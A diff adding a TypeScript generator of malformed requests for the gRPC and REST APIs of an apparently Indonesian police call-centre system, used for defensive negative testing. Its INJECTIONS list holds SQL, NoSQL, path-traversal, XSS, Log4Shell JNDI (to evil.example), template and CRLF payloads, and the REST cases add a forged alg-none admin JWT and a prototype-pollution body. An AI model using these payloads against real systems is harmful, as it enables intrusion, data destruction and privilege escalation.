@@ -1,0 +1,298 @@
+import { randomUUID } from 'node:crypto';
+import * as protobuf from 'protobufjs';
+import { INTAKE_PROTO_PATH } from '@callcenter/contracts';
+import { mintDevelopmentToken, PlatformConfig } from '@callcenter/platform';
+import { testToken } from '@callcenter/testing';
+
+/**
+ * Generated malformed requests for every public API, each with the answer it must get. The suite
+ * sends them all and checks each answer, that no process died, and that nothing was stored.
+ */
+export type MalformedCase =
+  | { api: 'grpc'; name: string; method: 'SubmitReport' | 'GetReportStatus'; apiKey: string | null; request: Record<string, unknown> | Buffer; expect: number[] }
+  | { api: 'rest'; service: 'triage' | 'dispatch' | 'analytics'; name: string; method: 'GET' | 'POST' | 'PATCH'; path: string; token: string | null; body?: string | Buffer; contentType?: string; expect: number[] };
+
+export const GRPC = { INVALID_ARGUMENT: 3, NOT_FOUND: 5, PERMISSION_DENIED: 7, RESOURCE_EXHAUSTED: 8, INTERNAL: 13, UNAUTHENTICATED: 16 } as const;
+
+const KEYS: Record<string, string> = {
+  'mobile-app': 'dev-key-mobile-app-0001',
+  'web-portal': 'dev-key-web-portal-0001',
+  'hotline-110': 'dev-key-hotline-110-0001',
+  'sms-gateway': 'dev-key-sms-gateway-0001',
+  'whatsapp-gateway': 'dev-key-whatsapp-gw-0001',
+};
+
+/** Strings an attacker tries first: SQL, NoSQL operators, paths, scripts, template and log injection. */
+export const INJECTIONS = [
+  "' OR '1'='1",
+  "'; DROP TABLE reports; --",
+  '{"$gt": ""}',
+  '$where: 1 == 1',
+  '../../../etc/passwd',
+  '<script>alert(1)</script>',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  'line\r\nX-Injected: yes',
+  '%00%0a',
+];
+
+const validReport = (overrides: Record<string, unknown> = {}) => ({
+  source_system: 'mobile-app',
+  external_id: `bad-input-${randomUUID()}`,
+  channel: 'MOBILE_APP',
+  reporter: { name: 'Siti Aminah', phone: '+6281234567890', anonymous: false },
+  category_hint: 'KEBAKARAN',
+  description: 'Kebakaran rumah di Jl. Tebet Raya 12, asap tebal',
+  location: { latitude: -6.2297, longitude: 106.8532, address: 'Jl. Tebet Raya 12', district: 'Tebet' },
+  people_injured: 0,
+  people_involved: 1,
+  ...overrides,
+});
+
+/** A SubmitReportRequest encoded by hand, so bytes a normal client would never send can be sent. */
+function encodeWithBadUtf8(field: 'description' | 'name' | 'address'): Buffer {
+  const root = protobuf.loadSync(INTAKE_PROTO_PATH);
+  const type = root.lookupType('callcenter.intake.v1.SubmitReportRequest');
+  const marker = 'QQQQQQQQQQQQ';
+  const report: any = validReport({ channel: 2 });
+  if (field === 'description') report.description = `Kebakaran ${marker}`;
+  if (field === 'name') report.reporter.name = marker;
+  if (field === 'address') report.location.address = marker;
+  const bytes = Buffer.from(type.encode(type.fromObject(report)).finish());
+  const at = bytes.indexOf(Buffer.from(marker));
+  Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c]).copy(bytes, at);
+  return bytes;
+}
+
+function grpcCases(): MalformedCase[] {
+  const cases: MalformedCase[] = [];
+  const submit = (name: string, request: Record<string, unknown> | Buffer, expect: number[], apiKey: string | null = KEYS['mobile-app']) =>
+    cases.push({ api: 'grpc', name: `SubmitReport: ${name}`, method: 'SubmitReport', apiKey, request, expect });
+
+  // Authentication and authorisation.
+  for (const [label, key] of [['no key', null], ['unknown key', 'not-a-key'], ['empty key', ''], ['a revoked-looking key', 'dev-key-mobile-app-0000'], ['an injection', INJECTIONS[0]]] as const) {
+    submit(label, validReport(), [GRPC.UNAUTHENTICATED], key);
+  }
+  for (const [system, key] of Object.entries(KEYS)) {
+    for (const other of Object.keys(KEYS).filter((s) => s !== system)) {
+      submit(`${system}'s key submitting as ${other}`, validReport({ source_system: other }), [GRPC.PERMISSION_DENIED], key);
+    }
+  }
+
+  // Every field, wrong: types, ranges, formats, enums, missing, oversized, injections.
+  const invalid: [string, Record<string, unknown>][] = [
+    ['source_system empty', { source_system: '' }],
+    ['source_system upper case', { source_system: 'MOBILE-APP' }],
+    ['source_system too long', { source_system: 'm'.repeat(65) }],
+    ['external_id empty', { external_id: '' }],
+    ['external_id too long', { external_id: 'x'.repeat(129) }],
+    ['external_id with a space', { external_id: 'ext 1' }],
+    ['external_id not ASCII', { external_id: 'laporan-é' }],
+    ['channel unspecified', { channel: 0 }],
+    ['channel unknown number', { channel: 99 }],
+    ['category_hint unknown number', { category_hint: 77 }],
+    ['description empty', { description: '' }],
+    ['description blank', { description: '   \n\t ' }],
+    ['description too long', { description: 'x'.repeat(4001) }],
+    ['description with NUL', { description: 'Kebakaran\u0000 rumah' }],
+    ['description with an escape sequence', { description: 'Kebakaran \u001b[2J rumah' }],
+    ['reporter missing', { reporter: undefined }],
+    ['reporter phone not E.164', { reporter: { name: 'Siti', phone: '081234567890', anonymous: false } }],
+    ['reporter phone with spaces', { reporter: { name: 'Siti', phone: '+62 812 3456 7890', anonymous: false } }],
+    ['reporter phone letters', { reporter: { name: 'Siti', phone: '+62abc', anonymous: false } }],
+    ['reporter name too long', { reporter: { name: 'S'.repeat(121), phone: '+6281234567890', anonymous: false } }],
+    ['reporter name with control characters', { reporter: { name: 'Siti\u0007', phone: '+6281234567890', anonymous: false } }],
+    ['location missing', { location: undefined }],
+    ['location says nowhere', { location: {} }],
+    ['latitude without longitude', { location: { latitude: -6.2 } }],
+    ['latitude above 90', { location: { latitude: 91, longitude: 106.8 } }],
+    ['latitude below -90', { location: { latitude: -90.5, longitude: 106.8 } }],
+    ['longitude above 180', { location: { latitude: -6.2, longitude: 180.5 } }],
+    ['latitude NaN', { location: { latitude: NaN, longitude: 106.8 } }],
+    ['latitude infinite', { location: { latitude: Infinity, longitude: 106.8 } }],
+    ['address too long', { location: { address: 'a'.repeat(301) } }],
+    ['district too long', { location: { district: 'd'.repeat(101) } }],
+    ['people_injured negative', { people_injured: -1 }],
+    ['people_injured absurd', { people_injured: 10_001 }],
+    ['people_involved absurd', { people_involved: 100_001 }],
+    ['occurred_at in the future', { occurred_at: { seconds: String(Math.floor(Date.now() / 1000) + 86_400), nanos: 0 } }],
+    ['occurred_at before 2000', { occurred_at: { seconds: '631152000', nanos: 0 } }],
+  ];
+  // Every calling system sends them, with its own key and channel.
+  const systems: [string, string][] = [['mobile-app', 'MOBILE_APP'], ['web-portal', 'WEB'], ['hotline-110', 'HOTLINE'], ['sms-gateway', 'SMS'], ['whatsapp-gateway', 'WHATSAPP']];
+  for (const [system, channel] of systems) {
+    for (const [name, change] of invalid) {
+      submit(`${system}: ${name}`, validReport({ source_system: system, channel, ...change }), [GRPC.INVALID_ARGUMENT], KEYS[system]);
+    }
+  }
+  INJECTIONS.forEach((text, i) => {
+    submit(`injection in source_system #${i}`, validReport({ source_system: text }), [GRPC.INVALID_ARGUMENT]);
+    if (/\s/.test(text) || /[^\x21-\x7e]/.test(text)) submit(`injection in external_id #${i}`, validReport({ external_id: text }), [GRPC.INVALID_ARGUMENT]);
+    submit(`injection in phone #${i}`, validReport({ reporter: { name: 'x', phone: text, anonymous: false } }), [GRPC.INVALID_ARGUMENT]);
+  });
+  for (const field of ['description', 'name', 'address'] as const) submit(`bad UTF-8 in ${field}`, encodeWithBadUtf8(field), [GRPC.INVALID_ARGUMENT]);
+
+  // Huge payloads: gRPC refuses anything over 64 KiB before the service sees it.
+  for (const [name, change] of [
+    ['description of 70 KiB', { description: 'x'.repeat(70 * 1024) }],
+    ['address of 100 KiB', { location: { address: 'a'.repeat(100 * 1024) } }],
+    ['reporter name of 1 MiB', { reporter: { name: 'n'.repeat(1024 * 1024), anonymous: false } }],
+  ] as const) {
+    submit(name, validReport(change as Record<string, unknown>), [GRPC.RESOURCE_EXHAUSTED]);
+  }
+  // Bytes that are no protobuf message at all.
+  for (const [name, bytes] of [
+    ['random bytes', Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 97 + 13) % 256))],
+    ['a truncated varint', Buffer.from([0x08, 0xff, 0xff, 0xff])],
+    ['a length beyond the message', Buffer.from([0x0a, 0x7f, 0x61])],
+    ['JSON instead of protobuf', Buffer.from(JSON.stringify(validReport()))],
+  ] as const) {
+    submit(name, bytes, [GRPC.INVALID_ARGUMENT, GRPC.INTERNAL]);
+  }
+
+  // Status lookups.
+  for (const id of ['not-a-uuid', ...INJECTIONS]) {
+    cases.push({ api: 'grpc', name: `GetReportStatus: report_id ${JSON.stringify(id)}`, method: 'GetReportStatus', apiKey: KEYS['mobile-app'], request: { report_id: id }, expect: [GRPC.INVALID_ARGUMENT] });
+    cases.push({ api: 'grpc', name: `GetReportStatus: tracking_code ${JSON.stringify(id)}`, method: 'GetReportStatus', apiKey: KEYS['mobile-app'], request: { tracking_code: id }, expect: [GRPC.INVALID_ARGUMENT] });
+  }
+  cases.push({ api: 'grpc', name: 'GetReportStatus: unknown report', method: 'GetReportStatus', apiKey: KEYS['mobile-app'], request: { report_id: randomUUID() }, expect: [GRPC.NOT_FOUND] });
+  cases.push({ api: 'grpc', name: 'GetReportStatus: no key', method: 'GetReportStatus', apiKey: null, request: { report_id: randomUUID() }, expect: [GRPC.UNAUTHENTICATED] });
+  return cases;
+}
+
+interface Route {
+  service: 'triage' | 'dispatch' | 'analytics';
+  method: 'GET' | 'POST' | 'PATCH';
+  path: string;
+  roles: string[];
+  /** A valid body, to be broken field by field. */
+  body?: Record<string, unknown>;
+}
+
+const ID = '00000000-0000-4000-8000-00000000b00b';
+const ROUTES: Route[] = [
+  { service: 'triage', method: 'GET', path: '/api/v1/queue', roles: ['operator'] },
+  { service: 'triage', method: 'GET', path: `/api/v1/reports/${ID}`, roles: ['operator'] },
+  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/claim`, roles: ['operator'] },
+  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/classify`, roles: ['operator'], body: { category: 'KEBAKARAN', priority: 'P1', district: 'TEBET' } },
+  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/notes`, roles: ['operator'], body: { text: 'Pelapor menelepon ulang' } },
+  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/duplicate`, roles: ['operator'], body: { duplicateOf: '00000000-0000-4000-8000-00000000beef' } },
+  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/reject`, roles: ['operator'], body: { reason: 'PRANK', explanation: 'Penelepon iseng' } },
+  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/advice`, roles: ['operator'], body: { advice: 'Datang ke Polsek terdekat' } },
+  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/escalate`, roles: ['operator'], body: { reason: 'Butuh keputusan atasan' } },
+  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/reassign`, roles: ['supervisor'], body: { operatorId: 'op-sari' } },
+  { service: 'triage', method: 'GET', path: '/api/v1/supervisor/stats', roles: ['supervisor'] },
+  { service: 'dispatch', method: 'POST', path: '/api/v1/units', roles: ['dispatcher'], body: { callSign: 'PATROL-BAD-01', type: 'PATROL_CAR', homeDistrict: 'TEBET', capabilities: ['FIRST_AID'], onShift: true } },
+  { service: 'dispatch', method: 'PATCH', path: '/api/v1/units/PATROL-BAD-01', roles: ['dispatcher'], body: { onShift: true } },
+  { service: 'dispatch', method: 'POST', path: '/api/v1/units/PATROL-BAD-01/status', roles: ['dispatcher'], body: { status: 'BUSY', latitude: -6.2, longitude: 106.8 } },
+  { service: 'dispatch', method: 'GET', path: '/api/v1/units', roles: ['dispatcher'] },
+  { service: 'dispatch', method: 'GET', path: '/api/v1/incidents', roles: ['dispatcher'] },
+  { service: 'dispatch', method: 'POST', path: `/api/v1/incidents/${ID}/assign`, roles: ['dispatcher'], body: { unitId: 'PATROL-BAD-01' } },
+  { service: 'dispatch', method: 'POST', path: `/api/v1/incidents/${ID}/decline`, roles: ['dispatcher'], body: { reason: 'Ban kempes' } },
+  { service: 'dispatch', method: 'POST', path: `/api/v1/incidents/${ID}/resolve`, roles: ['dispatcher'], body: { outcome: 'HANDLED_ON_SCENE', summary: 'Selesai ditangani' } },
+  { service: 'analytics', method: 'GET', path: '/api/v1/stats/volume', roles: ['analyst'] },
+  { service: 'analytics', method: 'GET', path: '/api/v1/stats/durations', roles: ['analyst'] },
+  { service: 'analytics', method: 'GET', path: '/api/v1/stats/hotspots', roles: ['analyst'] },
+  { service: 'analytics', method: 'GET', path: `/api/v1/reports/${ID}/timeline`, roles: ['analyst'] },
+  { service: 'analytics', method: 'POST', path: '/api/v1/admin/rebuild', roles: ['admin'] },
+];
+
+/** A role that may not use the route. */
+const wrongRole = (route: Route) => (route.service === 'analytics' ? (route.roles.includes('admin') ? 'analyst' : 'operator') : route.service === 'triage' ? (route.roles.includes('supervisor') ? 'operator' : 'dispatcher') : 'analyst');
+
+function restCases(): MalformedCase[] {
+  const cases: MalformedCase[] = [];
+  const secret = new PlatformConfig().AUTH_JWT_SECRET;
+  const expired = mintDevelopmentToken({ NODE_ENV: 'test', AUTH_JWT_SECRET: secret }, { sub: 'op-old', roles: ['operator'], ttlSeconds: -60 } as any);
+  const unsigned = (() => {
+    const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
+    return `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: 'op-x', roles: ['operator', 'supervisor', 'dispatcher', 'analyst', 'admin'], iss: 'polres-callcenter', exp: 4102444800 })}.`;
+  })();
+  const badTokens: [string, string | null][] = [
+    ['no token', null],
+    ['an empty bearer', ''],
+    ['not a JWT', 'not.a.jwt'],
+    ['a JWT with alg none', unsigned],
+    ['a token signed with another secret', testToken('op-x', ['operator', 'supervisor', 'dispatcher', 'analyst', 'admin'], 'another-secret-that-is-long-enough')],
+    ['an expired token', expired],
+    ['an injection as token', INJECTIONS[1]],
+  ];
+  for (const route of ROUTES) {
+    const good = testToken(`bad-input-${route.roles[0]}`, route.roles as any);
+    const body = route.body ? JSON.stringify(route.body) : undefined;
+    const rest = (name: string, expect: number[], extra: Partial<Extract<MalformedCase, { api: 'rest' }>> = {}) =>
+      cases.push({ api: 'rest', service: route.service, name: `${route.method} ${route.path}: ${name}`, method: route.method, path: route.path, token: good, body, expect, ...extra });
+
+    for (const [name, token] of badTokens) rest(name, [401], { token: token === '' ? 'Bearer ' : token, body });
+    rest(`role ${wrongRole(route)}`, [403], { token: testToken('bad-input-wrong', [wrongRole(route)] as any) });
+
+    if (route.method === 'GET' && route.path.includes('/stats/')) {
+      for (const q of ['from=yesterday', 'to=2026-13-45T00:00:00Z', 'from=2026-11-02T00:00:00Z&to=2026-11-01T00:00:00Z', 'priority=P0', 'category=crime', 'channel=FAX', 'district=tebet', 'format=xml', 'priority[$ne]=P1', ...INJECTIONS.map((s) => `district=${encodeURIComponent(s)}`)]) {
+        rest(`query ${q}`, [400], { path: `${route.path}?${q}` });
+      }
+    }
+    if (route.path === '/api/v1/queue') {
+      for (const q of ['limit=0', 'limit=201', 'limit=ten', 'offset=-1', 'status=REJECTED', 'flagged=maybe', 'claimedBy=%20', ...INJECTIONS.map((s) => `district=${encodeURIComponent(s)}`), ...INJECTIONS.map((s) => `claimedBy=${encodeURIComponent(s)}`)]) {
+        rest(`query ${q}`, [400], { path: `${route.path}?${q}` });
+      }
+    }
+    if (route.path.includes('PATROL-BAD-01')) {
+      for (const bad of ['patrol bad', 'X', ...INJECTIONS]) rest(`unit id ${JSON.stringify(bad)}`, [400, 404], { path: route.path.replace('PATROL-BAD-01', encodeURIComponent(bad)) });
+    }
+    if (route.path.includes(ID)) {
+      for (const bad of ['not-a-uuid', '12345', ...INJECTIONS]) rest(`id ${JSON.stringify(bad)}`, [400, 404], { path: route.path.replace(ID, encodeURIComponent(bad)) });
+    }
+    if (!route.body) continue;
+
+    // Broken bodies: not JSON, wrong content, too large.
+    for (const [name, raw] of [
+      ['truncated JSON', body!.slice(0, -3)],
+      ['JSON with a trailing comma', body!.replace(/}$/, ',}')],
+      ['single quotes', body!.replace(/"/g, "'")],
+      ['a JSON array', `[${body}]`],
+      ['a JSON string', '"hello"'],
+      ['JSON null', 'null'],
+    ] as const) {
+      rest(name, [400], { body: raw });
+    }
+    // An empty change is a valid PATCH; the unit then does not exist.
+    rest('an empty object', route.method === 'PATCH' ? [404] : [400], { body: '{}' });
+    rest('a body over 64 KiB', [413], { body: JSON.stringify({ ...route.body, pad: 'x'.repeat(70 * 1024) }) });
+    rest('an unexpected field', [400], { body: JSON.stringify({ ...route.body, isAdmin: true }) });
+    rest('a prototype-pollution attempt', [400], { body: `{"__proto__":{"isAdmin":true},${body!.slice(1)}` });
+
+    // Each field: missing (when required), wrong types, injections.
+    for (const field of Object.keys(route.body)) {
+      const optional = ['district', 'capabilities', 'onShift', 'latitude', 'longitude', 'status'].includes(field) || route.method === 'PATCH';
+      if (!optional) rest(`${field} missing`, [400], { body: JSON.stringify({ ...route.body, [field]: undefined }) });
+      for (const [label, value] of [
+        ['a number', 12345],
+        ['an array', ['a', 'b']],
+        ['an object', { $gt: '' }],
+        ['null', null],
+        ['true', true],
+      ] as const) {
+        if (optional && label === 'null') continue;
+        if (label === 'true' && typeof (route.body as any)[field] === 'boolean') continue;
+        rest(`${field} as ${label}`, [400], { body: JSON.stringify({ ...route.body, [field]: value }) });
+      }
+      if (typeof (route.body as any)[field] === 'string') {
+        INJECTIONS.forEach((text, i) => {
+          // Free text may contain anything printable; only formatted fields must refuse these.
+          if (['text', 'explanation', 'advice', 'reason', 'summary'].includes(field)) return;
+          rest(`${field} injection #${i}`, [400], { body: JSON.stringify({ ...route.body, [field]: text }) });
+        });
+        rest(`${field} with bad UTF-8`, [400], {
+          body: Buffer.concat([Buffer.from(JSON.stringify({ ...route.body, [field]: 'QQQQ' }).split('QQQQ')[0]), Buffer.from([0xff, 0xfe, 0xc3, 0x28]), Buffer.from(JSON.stringify({ ...route.body, [field]: 'QQQQ' }).split('QQQQ')[1])]),
+        });
+        rest(`${field} with a NUL`, [400], { body: JSON.stringify({ ...route.body, [field]: `${(route.body as any)[field]}\u0000` }) });
+        rest(`${field} of 5,000 characters`, [400], { body: JSON.stringify({ ...route.body, [field]: 'x'.repeat(5_000) }) });
+      }
+    }
+  }
+  return cases;
+}
+
+export function malformedRequests(): MalformedCase[] {
+  return [...grpcCases(), ...restCases()];
+}
